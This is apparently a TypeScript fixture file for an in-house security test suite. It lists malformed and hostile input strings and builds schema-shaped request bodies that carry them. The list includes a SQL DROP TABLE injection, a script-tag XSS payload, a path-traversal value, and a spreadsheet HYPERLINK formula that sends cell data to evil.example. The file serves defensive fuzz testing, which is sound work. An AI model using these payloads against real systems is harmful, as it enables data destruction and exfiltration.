// The hostile-request corpus of the standing attack suite: odd text that has broken servers
// (NUL, lone surrogates, LIKE wildcards, quotes, markup, very long strings), and request bodies
// built from a route's own schema with such text in every string field, so each body reaches
// the use case instead of stopping at validation.
import { defOf, wrappedSchema, type AnySchema } from '../http/schemaWalk.ts';

export const oddTexts: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\uD800',
  'x\uDC00y',
  '%',
  '_',
  '\\',
  "'; DROP TABLE app_user; --",
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  '１４０５８１', // full-width digits
  'x'.repeat(70_000),
  '',
  ' ',
];

/** URL-safe forms of odd text for path and query values. */
export const oddUrlValues: readonly string[] = ['%00', '%25', '%5C', '%27%3B', '%3Cscript%3E', 'x'.repeat(5000), '..%2F..%2Fetc', '-1', '0', '1e309'];

/** Well-formed values for formatted strings, so odd text lands in the free-text fields. */
const formatted: Record<string, string> = {
  date: '2025-06-01',
  datetime: '2025-06-01T08:00:00Z',
  uuid: '00000000-0000-4000-8000-000000000000',
  guid: '00000000-0000-4000-8000-000000000000',
  email: 'a@example.com',
  url: 'https://example.com',
};

/** A value the schema accepts in shape, with `text` in every free string. */
export function sampleOf(schema: AnySchema, text: string, depth = 0): unknown {
  if (depth > 12) return undefined;
  const inner = wrappedSchema(schema);
  if (inner) return sampleOf(inner, text, depth + 1);
  const def = defOf(schema);
  switch (def.type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [key, child] of Object.entries(def.shape as Record<string, AnySchema>)) out[key] = sampleOf(child, text, depth + 1);
      return out;
    }
    case 'array':
      return [sampleOf(def.element as AnySchema, text, depth + 1)];
    case 'record':
      return { k: sampleOf(def.valueType as AnySchema, text, depth + 1) };
    case 'tuple':
      return (def.items as AnySchema[]).map((i) => sampleOf(i, text, depth + 1));
    case 'union':
      return sampleOf((def.options as AnySchema[])[0]!, text, depth + 1);
    case 'literal':
      return (def.values as unknown[])[0];
    case 'enum':
      return Object.values(def.entries as Record<string, unknown>)[0];
    case 'string':
      return formatted[def.format as string] ?? text;
    case 'number':
    case 'int':
      return 1;
    case 'bigint':
      return 1;
    case 'boolean':
      return true;
    case 'date':
      return '2025-06-01';
    case 'null':
      return null;
    default:
      return text;
  }
}
